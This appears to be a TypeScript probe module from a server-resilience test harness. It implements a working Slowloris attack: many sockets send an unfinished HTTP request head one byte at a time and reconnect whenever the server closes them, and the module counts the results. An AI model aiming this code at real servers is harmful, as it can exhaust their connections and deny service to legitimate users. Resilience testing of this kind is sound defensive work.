/**
 * Slowloris: N sockets each send a request head one byte every few seconds and never finish it;
 * a socket the server closes is reopened at once (a reconnecting attacker).
 */
import { pause } from "../clock.ts";
import { SMALL_PATH } from "../fixture.ts";
import type { Probe } from "../probe.ts";
import { closeAll, openHeld, openMany, type Held, type HeldHooks } from "../sockets.ts";

const HEAD_START = Buffer.from(`GET ${SMALL_PATH} HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: `);
const ONE_BYTE = Buffer.from("a");
/** The trickle is spread over this many ticks per period, a slice of the sockets each tick. */
const TICKS_PER_PERIOD = 10;

export const slowloris: Probe = {
  name: "slowloris",
  describe: (s) =>
    `${s.slowloris.sockets} sockets, a header byte every ${s.slowloris.byteEveryMs / 1000} s, reconnecting, for ${s.slowloris.durationMs / 1000} s`,
  async attack({ target, settings }) {
    const cfg = settings.slowloris;
    let running = true;
    let reconnects = 0;
    let serverCloses = 0;
    let refused = 0;
    const held = new Set<Held>();
    const hooks: HeldHooks = {
      open: (h) => {
        held.add(h);
        h.socket.write(HEAD_START);
      },
      close: (h) => {
        held.delete(h);
        if (!h.closedByServer) return;
        serverCloses++;
        if (!running) return;
        reconnects++;
        void openHeld(target.port, hooks).then((n) => {
          if (!n) refused++;
          else if (!running) closeAll([n]);
        });
      },
    };
    const first = await openMany(target.port, cfg.sockets, hooks);
    refused += cfg.sockets - first.length;
    let tick = 0;
    const timer = setInterval(() => {
      let i = 0;
      for (const h of held) if (i++ % TICKS_PER_PERIOD === tick % TICKS_PER_PERIOD && !h.closed) h.socket.write(ONE_BYTE);
      tick++;
    }, cfg.byteEveryMs / TICKS_PER_PERIOD);
    await pause(cfg.durationMs);
    running = false;
    clearInterval(timer);
    const stillOpen = held.size;
    closeAll([...held]);
    return {
      notes: {
        "sockets opened": cfg.sockets,
        "closed by the server": serverCloses,
        reconnects,
        "connects refused": refused,
        "open at the end": stillOpen,
      },
      goals: [],
    };
  },
};
